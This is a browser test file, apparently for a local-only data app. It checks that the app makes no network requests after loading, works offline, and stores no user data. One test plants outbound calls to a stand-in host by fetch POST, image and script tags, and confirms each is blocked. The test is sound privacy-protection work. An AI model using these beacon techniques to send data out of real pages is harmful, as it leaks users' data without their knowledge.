// The promise: nothing leaves this computer, and nothing needs to.

import { assert, built, describe, it, serve, site } from './harness.mjs';
import { campaign } from './files.mjs';
import { answered, clickOnce, downloaded, drop, fileRead, seen, train } from './page.mjs';

/** The page has loaded when the network has been silent for half a second. */
const loaded = (page) => page.waitForLoadState('networkidle');

/** The way from a dropped file to a scored list. */
async function wholeWay(page) {
  await drop(page, [campaign()]);
  await fileRead(page, 'campaign.csv');
  await page.getByRole('button', { name: 'Who will convert?' }).click();
  await seen(page.getByLabel('Which column says who converted?'));
  await train(page);
  await page.getByRole('button', { name: 'Score this list' }).click();
  await seen(page.getByRole('button', { name: /Download the list/ }));
  await downloaded(page, () => page.getByRole('button', { name: /Download the list/ }).click());
}

describe('The promise', () => {
  const at = site('dist');

  it('no request leaves after the page has loaded', async () => {
    const page = await at.page();
    await loaded(page);
    const requests = [];
    page.context().on('request', (request) => {
      // Downloads and the engine's worker live under addresses of this tab's own memory.
      if (!/^(blob|data):/.test(request.url())) requests.push(request.url());
    });
    await wholeWay(page);
    await page.getByRole('navigation').getByRole('link', { name: 'Start' }).click();
    await page.getByRole('button', { name: 'Try the sample' }).click();
    await answered(page);
    await page.getByRole('navigation').getByRole('link', { name: 'Start' }).click();
    await page.getByRole('button', { name: 'Try a sample network' }).click();
    const dealers = page.getByRole('region', { name: 'All dealers' });
    await clickOnce(dealers.locator('tbody a').first());
    await page.locator('#dealer-title').waitFor();
    await downloaded(page, () => page.getByRole('button', { name: 'Sheet of this dealer, to print' }).click());
    assert.deepEqual(requests, []);
  });

  it('says when it has loaded, and from then on needs no network', async () => {
    const page = await at.page();
    await page.getByText('Check it in thirty seconds').click();
    await seen(page.getByText('The page has loaded.'));
    await page.context().setOffline(true);
    await page.getByRole('button', { name: 'Try the sample' }).click();
    await answered(page);
    assert.deepEqual(page.errors, []);
  });

  it('works with the server gone', async () => {
    const { server, address } = await serve(built('dist'), 8300);
    const page = await at.page({ address });
    await loaded(page);
    server.closeAllConnections();
    server.close();
    await page.context().setOffline(true);
    await wholeWay(page);
    assert.deepEqual(page.errors, []);
  });

  it('stops a planted request to elsewhere, from the page and by every other way out', async () => {
    const page = await at.page();
    const seen = [];
    await page.context().route(/elsewhere\.example/, (route) => {
      seen.push(route.request().url());
      return route.abort();
    });
    const outcomes = await page.evaluate(async () => {
      const address = 'https://elsewhere.example/collect';
      const image = () =>
        new Promise((resolve) => {
          const picture = new Image();
          picture.onload = () => resolve('went out');
          picture.onerror = () => resolve('blocked');
          picture.src = `${address}?by=image`;
        });
      const script = () =>
        new Promise((resolve) => {
          const element = document.createElement('script');
          element.onload = () => resolve('went out');
          element.onerror = () => resolve('blocked');
          element.src = `${address}?by=script`;
          document.head.append(element);
        });
      return {
        fetch: await fetch(address, { method: 'POST', body: 'x' }).then(() => 'went out', () => 'blocked'),
        image: await image(),
        script: await script(),
      };
    });
    assert.deepEqual(outcomes, { fetch: 'blocked', image: 'blocked', script: 'blocked' });
    assert.deepEqual(seen, []);
  });

  it('writes nothing of the data where it would stay', async () => {
    const page = await at.page();
    await drop(page, [campaign()]);
    await fileRead(page, 'campaign.csv');
    const kept = await page.evaluate(async () => ({
      local: { ...localStorage },
      session: { ...sessionStorage },
      cookies: document.cookie,
      databases: (await indexedDB.databases()).map(({ name }) => name),
    }));
    assert.deepEqual(kept, { local: {}, session: {}, cookies: '', databases: [] });
  });
});
